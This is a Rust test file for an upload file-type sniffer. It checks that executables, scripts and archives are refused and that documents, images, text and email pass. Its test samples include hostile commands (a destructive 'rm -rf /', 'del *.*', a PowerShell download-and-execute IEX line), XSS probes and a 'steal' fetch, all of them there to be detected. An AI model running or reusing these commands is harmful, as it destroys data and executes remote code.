//! One test per sniffing rule, on small crafted samples.

use super::*;

fn sniffed(bytes: &[u8]) -> Result<Sniffed, Refusal> {
    let mut sniffer = Sniffer::new();
    sniffer.feed(bytes);
    sniffer.finish(bytes.len() as u64)
}

fn kind(bytes: &[u8]) -> Result<FileKind, Refusal> {
    match sniffed(bytes)? {
        Sniffed::Final(kind) => Ok(kind),
        other => panic!("expected a final kind, got {other:?}"),
    }
}

#[test]
fn empty_uploads_are_refused() {
    assert_eq!(sniffed(b""), Err(Refusal::Empty));
}

#[test]
fn executables_of_every_platform_are_refused() {
    let samples: &[&[u8]] = &[
        b"MZ\x90\0\x03\0\0\0",
        b"\x7fELF\x02\x01\x01",
        &[0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1],
        &[0xFE, 0xED, 0xFA, 0xCE, 0, 0, 0, 7],
        &[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2],
        b"\0asm\x01\0\0\0",
        b"dex\n035\0",
    ];
    for sample in samples {
        assert_eq!(sniffed(sample), Err(Refusal::Executable), "{sample:x?}");
    }
}

#[test]
fn shebangs_are_scripts() {
    assert_eq!(sniffed(b"#!/bin/sh\nrm -rf /\n"), Err(Refusal::Script));
}

#[test]
fn markup_and_code_are_scripts() {
    let samples: &[&str] = &[
        "<!DOCTYPE html><html><body>hi</body></html>",
        "  <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        "<?xml version=\"1.0\"?><root/>",
        "Dear client,\n<script>alert(1)</script>",
        "@echo off\r\ndel *.*\r\n",
        "Set shell = CreateObject(\"WScript.Shell\")\n",
        "powershell -EncodedCommand SQBFAFgA\n",
        "IEX(New-Object Net.WebClient).DownloadString('http://x')",
        "const payload = fetch('/steal');\n",
        "function run() {\n  go();\n}\n",
    ];
    for sample in samples {
        assert_eq!(sniffed(sample.as_bytes()), Err(Refusal::Script), "{sample}");
    }
}

#[test]
fn prose_that_merely_starts_like_code_is_text() {
    let samples: &[&str] = &[
        "Let me know when the signed copy arrives.\n",
        "Function of the escrow agent (see clause 4)\n",
        "Import duties are payable by the buyer.\n",
    ];
    for sample in samples {
        assert_eq!(kind(sample.as_bytes()), Ok(FileKind::Text), "{sample}");
    }
}

#[test]
fn pdf_is_found_within_the_first_kilobyte() {
    assert_eq!(kind(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), Ok(FileKind::Pdf));
    let mut late = vec![b' '; 1000];
    late.extend_from_slice(b"%PDF-1.4\n\0\0binary");
    assert_eq!(kind(&late), Ok(FileKind::Pdf));
    let mut too_late = vec![0u8; 1100];
    too_late.extend_from_slice(b"%PDF-1.4\n");
    assert_eq!(sniffed(&too_late), Err(Refusal::UnknownType));
}

#[test]
fn images_are_recognised() {
    assert_eq!(kind(b"\xFF\xD8\xFF\xE0\0\x10JFIF"), Ok(FileKind::Jpeg));
    assert_eq!(kind(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), Ok(FileKind::Png));
    assert_eq!(kind(b"GIF89a\x01\0\x01\0"), Ok(FileKind::Gif));
    assert_eq!(kind(b"GIF87a\x01\0\x01\0"), Ok(FileKind::Gif));
    assert_eq!(kind(b"II*\0\x08\0\0\0"), Ok(FileKind::Tiff));
    assert_eq!(kind(b"MM\0*\0\0\0\x08"), Ok(FileKind::Tiff));
    assert_eq!(kind(b"RIFF\x24\0\0\0WEBPVP8 "), Ok(FileKind::Webp));
}

#[test]
fn heic_is_recognised_by_its_brands_but_video_is_not() {
    let iphone = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic";
    assert_eq!(kind(iphone), Ok(FileKind::Heic));
    let generic = b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic";
    assert_eq!(kind(generic), Ok(FileKind::Heic));
    let avif = b"\0\0\0\x18ftypavif\0\0\0\0mif1avif";
    assert_eq!(sniffed(avif), Err(Refusal::UnknownType));
    let mp4 = b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2";
    assert_eq!(sniffed(mp4), Err(Refusal::UnknownType));
}

#[test]
fn zip_and_ole_need_a_look_inside() {
    assert_eq!(sniffed(b"PK\x03\x04\x14\0\0\0"), Ok(Sniffed::Zip));
    assert_eq!(
        sniffed(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
        Ok(Sniffed::Cfb)
    );
}

#[test]
fn other_archives_are_refused() {
    let samples: &[&[u8]] = &[
        b"7z\xBC\xAF\x27\x1C\0\x04",
        b"Rar!\x1A\x07\x01\0",
        b"\x1F\x8B\x08\0\0\0\0\0",
        b"BZh91AY&SY",
        b"\xFD7zXZ\0\0\x04",
        b"PK\x05\x06\0\0\0\0",
    ];
    for sample in samples {
        assert_eq!(sniffed(sample), Err(Refusal::Archive), "{sample:x?}");
    }
    let mut tar = b"contract.pdf".to_vec();
    tar.resize(257, 0);
    tar.extend_from_slice(b"ustar\x0000");
    tar.resize(512, 0);
    assert_eq!(sniffed(&tar), Err(Refusal::Archive));
}

#[test]
fn text_must_be_utf8_or_utf16_without_nuls() {
    assert_eq!(kind("Grüße aus Zürich\r\n".as_bytes()), Ok(FileKind::Text));
    assert_eq!(kind(b"\xEF\xBB\xBFwith a BOM\n"), Ok(FileKind::Text));
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("héllo\n".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(kind(&utf16), Ok(FileKind::Text));
    assert_eq!(sniffed(b"text\0with a nul"), Err(Refusal::UnknownType));
    assert_eq!(sniffed(b"latin-1 \xE9t\xE9"), Err(Refusal::UnknownType));
    assert_eq!(sniffed(b"\x01\x02\x03\x04"), Err(Refusal::UnknownType));
}

#[test]
fn a_character_cut_by_the_window_is_not_binary() {
    let mut long = "a".repeat(SNIFF_BYTES - 1).into_bytes();
    long.extend_from_slice("é and more".as_bytes());
    let mut sniffer = Sniffer::new();
    for chunk in long.chunks(1000) {
        sniffer.feed(chunk);
    }
    assert_eq!(
        sniffer.finish(long.len() as u64),
        Ok(Sniffed::Final(FileKind::Text))
    );
}

#[test]
fn rtf_is_not_plain_text() {
    assert_eq!(sniffed(b"{\\rtf1\\ansi hello}"), Err(Refusal::UnknownType));
}

#[test]
fn email_is_recognised_by_its_headers() {
    let eml = "Received: from mx.example by mx2.example\r\n\
               \tfor <a@example>; Mon, 1 Jan 2026 10:00:00 +0000\r\n\
               From: Alice <alice@example.com>\r\n\
               To: Bob <bob@example.com>\r\n\
               Subject: Completion\r\n\
               MIME-Version: 1.0\r\n\
               \r\n\
               The signed copy is attached.\r\n";
    assert_eq!(kind(eml.as_bytes()), Ok(FileKind::Eml));
    assert_eq!(
        kind(b"Note: call the client\nTodo: file\n"),
        Ok(FileKind::Text)
    );
    assert_eq!(kind(b"From: me\n"), Ok(FileKind::Text));
}
